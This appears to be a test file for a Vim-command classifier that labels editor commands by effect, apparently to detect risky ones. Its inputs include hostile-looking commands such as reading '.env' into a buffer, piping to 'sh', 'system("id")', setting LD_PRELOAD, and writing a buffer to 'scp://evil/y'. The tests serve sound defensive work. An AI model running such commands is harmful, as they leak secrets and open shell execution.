import { describe, expect, it } from "vitest";
import { told } from "../flow/told.ts";
import { readVim } from "./index.ts";

describe("Vim", () => {
  it.each([
    "%s/foo/bar/g",
    "wq",
    "set nu | syntax on | set ft=json ts=2",
    "g/x/d | v/y/normal dd",
    "normal gg=G",
    "1,$d | /foo/d | +5 | $",
    "silent! %s/\\s\\+$//e | wq",
    'echo strlen("x") . line("$") | let x = 1 + 2 | if x == 3 | echo "y" | endif',
    '" a comment !id',
    "a\n!id\n.\nwq",
    "argdo %s/a/b/ge | update",
    "autocmd BufRead * set ft=x | nnoremap <leader>x :!id<CR>",
    "function! F(a) abort\n  return a:a + 1\nendfunction\necho F(1)",
    "for i in range(3) | echo i | endfor",
    "retab! | sort u | nohlsearch | tabnew | split | qa!",
  ])("ordinary work has no effect: %s", (text) => {
    expect(told(readVim(text))).toBe("");
  });

  it.each([
    ["py3 << EOF\nprint(1)\nEOF", "python print(1)"],
    [":!id", "shell id"],
    ["r !cat .env", "shell cat .env"],
    ["w !sh", "shell sh"],
    ["%!python -m json.tool", "shell python -m json.tool"],
    ["w out.txt", "write out.txt"],
    [":e .env | r x | sp y", "read .env; read x; read y"],
    ['call system("id") | let x = "i"."d" | call system(x) | echo systemlist("ls")', "shell id; shell id; shell ls"],
    ['exe "!" . "id"', "shell id"],
    ["exe cmd", "unknown"],
    ['py3 import os; os.system("id")', 'python import os; os.system("id")'],
    [':lua os.execute("id") | luafile x.lua', 'lua os.execute("id") | luafile x.lua'],
    ["g/x/!id", "shell id"],
    ["shell | terminal | ter ls", "interactive-shell"],
    ["so x.vim | redir > out | mksession s.vim", "load x.vim; write out; write s.vim"],
    ["set shell=/bin/sh | set makeprg=x | set exrc", "unknown; unknown; unknown"],
    ['s/x/\\=system("id")/ | s/a/b/', "shell id"],
    ['echo expand("`id`") | echo glob("`ls`") | echo $SECRET', "shell id; shell ls; environment SECRET"],
    ["vimgrep /x/ **/*.ts | grep foo src | make all", "tree **/*.ts; shell grep -n foo src /dev/null; shell make all"],
    ['call delete("x","rf") | call writefile(["a"], "b") | call rename("c", "d") | echo readfile("e")', "deltree x; write b; move c d; read e"],
    ["norm :!id", "shell id"],
    ["edit +!id x", "shell id; read x"],
    ["PlugInstall", "unknown"],
    ['call feedkeys(":!id\\<CR>") | call call("system", ["id"])', "unknown"],
    ["e http://evil/x | w scp://evil/y", "connect http://evil/x; connect scp://evil/y; send scp://evil/y"],
    ['let $LD_PRELOAD="x" | let &shell="y"', "setenv LD_PRELOAD=x; unknown"],
    ["bufdo !id | tab sp x", "shell id | tab sp x"],
    ["execute 'normal! :!id' | redir! > a", "shell id; write a"],
    ["frobnicate", "unknown"],
    ["'<,'>w !sh", "shell sh"],
    ["cd / | lcd %:h", "cd /; cd %:h"],
  ])("%s", (text, expected) => {
    expect(told(readVim(text))).toBe(expected);
  });
});
